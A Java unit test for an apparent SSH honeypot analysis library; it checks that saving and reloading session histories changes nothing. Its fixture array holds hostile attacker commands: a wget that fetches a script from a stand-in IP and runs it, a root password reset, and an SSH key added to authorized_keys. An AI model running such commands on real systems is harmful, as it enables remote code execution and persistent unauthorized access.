package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.KeyExchange;
import io.github.cowriekit.model.Session;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.util.DefaultLocale;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Saves and loads histories of generated sessions; a history must not notice. */
class HistoryStateTest {
    private static final int SESSIONS = 600;
    private static final String[] LINES = {
        "uname -a",
        "id",
        "exot",
        "sl -la",
        "cd /tmp",
        "touch notes",
        "cat notes",
        "mkdir -p /opt/.x",
        "ls /opt/.x",
        "wget http://192.0.2.7/a/x.sh -O /var/tmp/.x.sh",
        "sh /var/tmp/.x.sh",
        "echo \"root:aeUVqyLmI0Sy\"|chpasswd",
        "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDExampleExampleExample00 me >> ~/.ssh/authorized_keys",
        "exit"
    };

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4})
    void loadsAndSavesTheSameBytes(long seed) throws IOException {
        SessionHistory history = SessionHistory.create();
        Analysis analysis = Analysis.builder().history(history).build();
        generated(seed).forEach(analysis::assess);
        history.save(folder.resolve("saved"));

        SessionHistory.load(folder.resolve("saved")).save(folder.resolve("again"));

        assertThat(folder.resolve("again")).hasSameBinaryContentAs(folder.resolve("saved"));
    }

    @ParameterizedTest
    @ValueSource(longs = {5, 6, 7, 8})
    void goesOnAfterLoadingAsIfItHadNotBeenSaved(long seed) throws IOException {
        // a history that was loaded says so: both are
        SessionHistory.create().save(folder.resolve("empty"));
        SessionHistory through = SessionHistory.load(folder.resolve("empty"));
        Analysis analysis = Analysis.builder().history(through).build();
        SessionHistory kept = SessionHistory.load(folder.resolve("empty"));
        Analysis saved = Analysis.builder().history(kept).build();
        Random random = new Random(seed);
        for (Session session : generated(seed)) {
            assertThat(saved.assess(session)).isEqualTo(analysis.assess(session));
            if (random.nextInt(100) == 0) {
                kept.save(folder.resolve("kept"));
                kept = SessionHistory.load(folder.resolve("kept"));
                saved = Analysis.builder().history(kept).build();
            }
        }
        through.save(folder.resolve("through"));
        kept.save(folder.resolve("kept"));

        assertThat(folder.resolve("kept")).hasSameBinaryContentAs(folder.resolve("through"));
    }

    @Test
    @DefaultLocale(language = "ar", country = "EG")
    void savesAndLoadsWhereDigitsAreOthers() {
        SessionHistory history = SessionHistory.create();
        SessionStatistics statistics = SessionStatistics.create();
        Analysis analysis = Analysis.builder().history(history).build();
        generated(9).forEach(session -> {
            analysis.assess(session);
            statistics.add(session);
        });
        history.save(folder.resolve("history"));
        statistics.save(folder.resolve("statistics"));

        assertThatCode(() -> SessionHistory.load(folder.resolve("history"))).doesNotThrowAnyException();
        assertThat(SessionStatistics.load(folder.resolve("statistics")).total()).isEqualTo(statistics.total());
    }

    /** Sessions of a few clients and scripts that repeat, and of some that do not. */
    private static List<Session> generated(long seed) {
        Random random = new Random(seed);
        List<Session> sessions = new ArrayList<>();
        Instant start = Sessions.START;
        for (int i = 0; i < SESSIONS; i++) {
            start = start.plusSeconds(random.nextInt(3_000));
            Random script = new Random(random.nextInt(40));
            List<Command> commands = new ArrayList<>();
            for (int line = script.nextInt(8); line > 0; line--) {
                commands.add(new Command(
                        start.plusMillis(random.nextInt(90_000)), LINES[script.nextInt(LINES.length)], false, null));
            }
            if (random.nextInt(10) == 0) {
                commands.add(new Command(start, "touch /opt/" + Long.toString(random.nextLong(), 36), false, null));
            }
            sessions.add(Sessions.withId("fd5ac84ee8f9")
                    .sensor("hp0" + random.nextInt(2))
                    .source(new Endpoint("203.0.113." + random.nextInt(30), 40_000))
                    .startedAt(start)
                    .logins(List.of(Sessions.login("root", "p" + random.nextInt(200), true)))
                    .client(client(random.nextInt(3)))
                    .commands(commands)
                    .build());
        }
        return sessions;
    }

    private static Client client(int number) {
        String hassh = String.valueOf(number).repeat(32);
        return new Client("SSH-2.0-example", KeyExchange.builder().hassh(hassh).build(), null, List.of());
    }
}
